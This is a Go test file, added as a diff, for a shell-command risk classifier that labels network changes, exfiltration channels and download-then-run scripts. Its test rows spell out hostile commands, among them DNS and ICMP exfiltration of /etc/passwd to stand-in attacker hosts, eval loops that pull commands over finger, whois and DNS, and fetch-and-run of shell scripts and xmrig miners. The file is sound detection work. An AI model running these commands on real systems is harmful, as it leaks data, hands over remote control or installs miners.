@@ -1,0 +1,274 @@
+package danger
+
+import (
+	"slices"
+	"testing"
+)
+
+// TestNetworkConfig: the machine's network configuration changed by the
+// programs that own it (the README's labelling rules: "interfaces brought
+// up or given an address, IP forwarding turned on, sshuttle, wifi settings
+// (iwconfig essid|rts|retry|txpower), a BMC's address (ipmitool lan set),
+// sysctl KEY=VALUE", "changing the machine's routes, addresses, proxy or
+// wifi", and dev6's "hostname NAME" are disk-system). The members of each
+// family come from the tools' own documentation (ifconfig(8), ip(8),
+// iwconfig(8), iw(8), nmcli(1), sysctl(8), hostname(1), arp(8),
+// ethtool(8), tc(8), brctl(8), ssh(1) -w, sshuttle(8),
+// rfkill(8), macchanger(1), dhclient(8), ipmitool(1)); the everyday rows
+// are the same tools' display forms, which change nothing.
+func TestNetworkConfig(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		// ifconfig(8): an interface and anything after it configures it.
+		{`ifconfig eth0 netmask 255.255.255.0`, DiskSystem},
+		{`ifconfig eth0:0 192.168.1.20`, DiskSystem},
+		{`ifconfig tun0 up`, DiskSystem},
+		{`ifconfig eth0 mtu 1400`, DiskSystem},
+		{`ifconfig eth0 hw ether 00:11:22:33:44:55`, DiskSystem},
+		{`ifconfig wlan0 promisc`, DiskSystem},
+		{`ifconfig`, ""},
+		{`ifconfig -a`, ""},
+		{`ifconfig eth0`, ""},
+		{`ifconfig -s`, ""},
+		{`ifconfig eth0 | grep inet`, ""},
+		// ip(8): an object with a verb that changes it.
+		{`ip link set dev eth0 address 00:11:22:33:44:55`, DiskSystem},
+		{`ip link set eth0 up`, DiskSystem},
+		{`ip link add br0 type bridge`, DiskSystem},
+		{`ip tuntap add dev tun0 mode tun`, DiskSystem},
+		{`ip addr add 10.0.0.2/24 dev eth0`, DiskSystem},
+		{`ip -6 addr del 2001:db8::1/64 dev eth0`, DiskSystem},
+		{`ip netns add blue`, DiskSystem},
+		{`ip tunnel add gre1 mode gre remote 10.0.0.9`, DiskSystem},
+		{`ip -n blue link set lo up`, DiskSystem},
+		{`ip link show`, ""},
+		{`ip a`, ""},
+		{`ip addr show dev eth0`, ""},
+		{`ip -br -c link`, ""},
+		{`ip route get 1.1.1.1`, ""},
+		{`ip netns list`, ""},
+		{`ip -s link show eth0`, ""},
+		// iwconfig(8), iwpriv(8), iw(8): wireless settings.
+		{`iwconfig wlan0 essid "YourNetworkName"`, DiskSystem},
+		{`iwconfig wlan0 retry 16`, DiskSystem},
+		{`iwconfig wlan0 txpower 20`, DiskSystem},
+		{`iwconfig wlan0 mode monitor`, DiskSystem},
+		{`iw dev wlan0 set type monitor`, DiskSystem},
+		{`iw dev wlan0 connect HomeNet`, DiskSystem},
+		{`iw reg set US`, DiskSystem},
+		{`iw phy phy0 interface add mon0 type monitor`, DiskSystem},
+		{`iwconfig`, ""},
+		{`iwconfig wlan0`, ""},
+		{`iw dev`, ""},
+		{`iw dev wlan0 link`, ""},
+		{`iw dev wlan0 scan`, ""},
+		{`iw reg get`, ""},
+		{`iw list`, ""},
+		// nmcli(1): networking, radios, connections and devices changed.
+		{`nmcli radio wifi off`, DiskSystem},
+		{`nmcli radio wifi on`, DiskSystem},
+		{`nmcli networking off`, DiskSystem},
+		{`nmcli connection up id Work`, DiskSystem},
+		{`nmcli con mod eth0 ipv4.addresses 10.0.0.5/24`, DiskSystem},
+		{`nmcli device wifi connect HomeNet password hunter2`, DiskSystem},
+		{`nmcli connection add type ethernet ifname eth0`, DiskSystem},
+		{`nmcli general hostname box2`, DiskSystem},
+		{`nmcli`, ""},
+		{`nmcli device status`, ""},
+		{`nmcli connection show`, ""},
+		{`nmcli device wifi list`, ""},
+		{`nmcli radio wifi`, ""},
+		{`nmcli general hostname`, ""},
+		{`nmcli -t -f NAME connection show --active`, ""},
+		// sysctl(8): variable=value sets, -p/--system loads.
+		{`sysctl net.ipv4.ip_forward=1`, DiskSystem},
+		{`sysctl [KEY_1=VALUE_1 [KEY_2=VALUE_2] ...]`, DiskSystem},
+		{`sysctl -p /etc/sysctl.d/99-custom.conf`, DiskSystem},
+		{`sysctl --system`, DiskSystem},
+		{`sysctl -a`, ""},
+		{`sysctl net.ipv4.ip_forward`, ""},
+		{`sysctl -n kernel.hostname`, ""},
+		// hostname(1): a name given renames the machine.
+		{`hostname myServersHostname`, DiskSystem},
+		{`hostname -F /etc/hostname`, DiskSystem},
+		{`hostname`, ""},
+		{`hostname -f`, ""},
+		{`hostname -I`, ""},
+		{`hostname -s`, ""},
+		// arp(8), ethtool(8), tc(8), brctl(8), bridge(8).
+		{`arp -s 10.0.0.1 00:11:22:33:44:55`, DiskSystem},
+		{`arp -d 10.0.0.1`, DiskSystem},
+		{`ethtool -s eth0 speed 100 duplex full autoneg off`, DiskSystem},
+		{`ethtool -K eth0 tso off`, DiskSystem},
+		{`tc qdisc add dev eth0 root netem delay 100ms`, DiskSystem},
+		{`tc qdisc del dev eth0 root`, DiskSystem},
+		{`brctl addbr br0`, DiskSystem},
+		{`bridge fdb add 00:11:22:33:44:55 dev eth0`, DiskSystem},
+		{`arp -a`, ""},
+		{`arp -n`, ""},
+		{`ethtool eth0`, ""},
+		{`ethtool -i eth0`, ""},
+		{`ethtool -S eth0`, ""},
+		{`tc qdisc show dev eth0`, ""},
+		{`brctl show`, ""},
+		{`bridge fdb show`, ""},
+		// Interfaces brought up or down, addresses taken or given back.
+		{`ifup eth0`, DiskSystem},
+		{`ifdown -a`, DiskSystem},
+		{`dhclient -r eth0`, DiskSystem},
+		{`dhclient eth0`, DiskSystem},
+		{`/sbin/dhclient`, ""}, // heldout5's label: no interface named
+		{`rfkill block wifi`, DiskSystem},
+		{`rfkill unblock all`, DiskSystem},
+		{`macchanger -r eth0`, DiskSystem},
+		{`macchanger -m 00:11:22:33:44:55 wlan0`, DiskSystem},
+		{`ifup --no-act eth0`, ""},
+		{`ifquery --list`, ""},
+		{`rfkill list`, ""},
+		{`rfkill`, ""},
+		{`macchanger -s eth0`, ""},
+		{`macchanger --list`, ""},
+		// Tunnels that make interfaces and routes: ssh -w, sshuttle,
+		// VPN clients, ICMP and DNS tunnels.
+		{`ssh root@server -w any:any`, DiskSystem},
+		{`ssh -w 0:0 root@10.0.0.1`, DiskSystem},
+		{`ssh -o Tunnel=point-to-point root@10.0.0.1`, DiskSystem},
+		{`sshuttle -r user@host 10.10.10.10/24`, DiskSystem},
+		{`sshuttle -D -r user@host 0/0`, DiskSystem},
+		{`./hans -f -c example.com -p P@ssw0rd -v`, DiskSystem},
+		{`iodine -f -P secret 10.0.0.1 t.example.com`, DiskSystem},
+		{`ssh -L 8080:localhost:80 user@host`, ""},
+		{`ssh user@host uptime`, ""},
+		{`sshuttle --help`, ""},
+		{`wg-quick down wg0`, ""}, // dev's label: the user's own VPN
+		{`wg show`, ""},
+		{`pip install sshuttle`, ""},
+		// A BMC's network settings (ipmitool(1) lan set).
+		{`ipmitool lan set 1 ipaddr 10.0.0.9`, DiskSystem},
+		{`ipmitool lan print 1`, ""},
+		// The desktop's proxy (gsettings(1) of org.gnome.system.proxy).
+		{`gsettings set org.gnome.system.proxy mode manual`, DiskSystem},
+		{`gsettings get org.gnome.system.proxy mode`, ""},
+		{`gsettings set org.gnome.desktop.interface gtk-theme Adwaita`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
+
+// TestNetworkChannels: data or a shell handed to another host through a
+// channel that is not an upload command (the README's labelling rules for
+// network-exfiltration: "xhost +HOST, xterm -display HOST:1, a loop that
+// runs commands read from finger/whois ... sending a file over ... ping
+// payloads, sendEmail -a"; dev6's "dig $(cat /etc/passwd | base64).evil.com").
+// Members from the tools' documentation: xhost(1), X(7) -display, ping(8)
+// -p, hping3(8) --file, mail(1)/mailx(1)/mutt(1) attachments, swaks(1)
+// --attach, sendEmail -a; DNS clients dig(1), nslookup(1), host(1).
+func TestNetworkChannels(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		// The X display opened to, or a terminal shown on, another host.
+		{`xhost +targetip`, NetworkExfiltration},
+		{`xhost +`, NetworkExfiltration},
+		{`xhost +inet:10.0.0.9`, NetworkExfiltration},
+		{`xterm -display 10.0.0.1:1`, NetworkExfiltration},
+		{`urxvt -display attacker.example:0 &`, NetworkExfiltration},
+		{`DISPLAY=10.0.0.1:0 xterm`, NetworkExfiltration},
+		{`xhost`, ""},
+		{`xhost -`, ""},
+		{`xhost +local:`, ""},
+		{`xhost +SI:localuser:root`, ""},
+		{`xterm -display :0`, ""},
+		{`DISPLAY=:1 xterm`, ""},
+		{`xterm -e htop`, ""},
+		// A file's bytes carried in ICMP payloads.
+		{`xxd -p -c 4 /path/file/exfil | while read line; do ping -c 1 -p $line 192.168.1.10; done`, NetworkExfiltration},
+		{`hping3 -1 -E /etc/passwd -d 1400 10.0.0.9`, NetworkExfiltration},
+		{`ping -c 1 -p ff 10.0.0.9`, ""},
+		{`ping -c 3 example.com`, ""},
+		// A file's content in the names a DNS client looks up.
+		{`dig $(cat /etc/passwd | base64).evil.com`, NetworkExfiltration},
+		{`nslookup $(base64 -w0 notes.txt).attacker.example`, NetworkExfiltration},
+		{"host `xxd -p report.pdf | head -c 60`.attacker.example", NetworkExfiltration},
+		{`nslookup $(whoami).attacker.com`, ""},
+		{`dig +short example.com`, ""},
+		{`dig $(hostname -f)`, ""},
+		// Commands read from a network channel and run: a C2 loop.
+		{"export X=Connected; while true; do X=`eval $(finger \"$X\"@192.168.1.10 2> /dev/null | grep '!'|sed 's/^!//')`; sleep 1; done", NetworkExfiltration},
+		{"export X=Connected; while true; do X=`eval $(whois -h 192.168.1.10 -p 8080 \"Output: $X\")`; sleep 1; done", NetworkExfiltration},
+		{`eval "$(dig +short TXT cmd.attacker.example | tr -d '"')"`, NetworkExfiltration},
+		{`finger alice@example.com`, ""},
+		{`whois example.com`, ""},
+		{`eval "$(ssh-agent -s)"`, ""},
+		// Mail with a local file attached or as its body.
+		{`sendEmail -t to@email.com -f from@email.com -s 192.168.8.131 -u Subject -a file.pdf`, NetworkExfiltration},
+		{`mutt -s report -a ~/Documents/q3.xlsx -- boss@example.com < /dev/null`, NetworkExfiltration},
+		{`mailx -s logs -a /var/log/auth.log ops@example.com < /dev/null`, NetworkExfiltration},
+		{`swaks --to ops@example.com --server mail.example.com --attach @notes.txt`, NetworkExfiltration},
+		{`mail -s "notes" alice@example.com < notes.txt`, NetworkExfiltration},
+		{`mail -s "build done" alice@example.com <<< "ok"`, ""},
+		{`echo done | mail -s "build" alice@example.com`, ""},
+		{`mail -a "From: ci@example.com" -s hi alice@example.com < /dev/null`, ""},
+		{`mutt -v`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
+
+// TestFetchedThenRun: a file fetched and then run in the same script (the
+// README's download-execute: "fetch then run in one script, miners,
+// installers"), in the forms wget(1) and curl(1) name their files: wget's
+// URL without a scheme, -P DIR, curl --output-dir, and an archive unpacked
+// whose program is run (directly or under screen, nohup, timeout). A
+// download not run stays everyday (the README's "downloading a script
+// without running it").
+func TestFetchedThenRun(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`cd /tmp && wget malware.sh && chmod +x malware.sh && ./malware.sh`, DownloadExecute},
+		{`wget http://192.168.1.10/shell.sh -P /tmp; chmod +x /tmp/shell.sh; /tmp/shell.sh`, DownloadExecute},
+		{`curl -sO --output-dir /tmp https://example.com/agent; chmod +x /tmp/agent; /tmp/agent`, DownloadExecute},
+		{"wget https://github.com/xmrig/xmrig/releases/download/v6.11.2/xmrig-6.11.2-linux-x64.tar.gz;\ntar -xf xmrig-6.11.2-linux-x64.tar.gz;\ntimeout 60 ./xmrig-6.11.2/xmrig", DownloadExecute},
+		{"curl -OL https://github.com/xmrig/xmrig/releases/download/v6.11.2/xmrig-6.11.2-macos-x64.tar.gz;\ntar -xf xmrig-6.11.2-macos-x64.tar.gz;\nscreen -S miner -dm ./xmrig-6.11.2/xmrig", DownloadExecute},
+		{"wget -q https://example.com/tool-1.2.zip && unzip tool-1.2.zip && ./tool-1.2/run", DownloadExecute},
+		{`wget http://192.168.1.10/shell.sh -P /tmp`, ""},
+		{`wget https://example.com/data.tar.gz && tar -xf data.tar.gz && ls data`, ""},
+		{`wget https://example.com/data.tar.gz && tar -xf data.tar.gz && ./configure`, ""},
+		{`wget example.com/index.html && cat index.html`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
+
+// TestNetworkExplain: `danger explain` names the rule of this file that
+// marked a line, and the words it matched (issue 17).
+func TestNetworkExplain(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, cat, rule, word string
+	}{
+		{`ifconfig eth0 netmask 255.255.255.0`, DiskSystem, "networkConfig", "netmask"},
+		{`ip link set dev eth0 address 00:11:22:33:44:55`, DiskSystem, "networkConfig", "set"},
+		{`iwconfig wlan0 essid HomeNet`, DiskSystem, "networkConfig", "essid"},
+		{`nmcli con mod eth0 ipv4.addresses 10.0.0.5/24`, DiskSystem, "networkConfig", "mod"},
+		{`ssh root@server -w any:any`, DiskSystem, "networkConfig", "-w"},
+		{`xhost +targetip`, NetworkExfiltration, "displayOpened", "+targetip"},
+		{`xterm -display 10.0.0.1:1`, NetworkExfiltration, "displayOpened", "10.0.0.1:1"},
+		{`ping -c 1 -p $line 10.0.0.9`, NetworkExfiltration, "icmpPayload", "-p"},
+		{`dig $(cat /etc/passwd | base64).evil.com`, NetworkExfiltration, "dnsNameCarriesFile", "$(cat /etc/passwd | base64).evil.com"},
+		{`eval $(finger x@10.0.0.9)`, NetworkExfiltration, "channelCommands", "finger"},
+		{`sendEmail -t a@example.com -a file.pdf`, NetworkExfiltration, "mailAttachment", "file.pdf"},
+		{`wget http://10.0.0.9/shell.sh -P /tmp; /tmp/shell.sh`, DownloadExecute, "fetchedThenRun", "/tmp/shell.sh"},
+	} {
+		rs := Explain(bash(tt.cmd), proj, home)
+		i := slices.IndexFunc(rs, func(r Reason) bool { return r.Category == tt.cat && r.Rule == tt.rule })
+		if i < 0 {
+			t.Errorf("Explain(%q) = %+v, want a %s reason from %s", tt.cmd, rs, tt.cat, tt.rule)
+			continue
+		}
+		if rs[i].RuleText == "" || !slices.Contains(rs[i].Matched, tt.word) {
+			t.Errorf("Explain(%q): reason %+v, want a rule text and %q among the matched words", tt.cmd, rs[i], tt.word)
+		}
+	}
+}
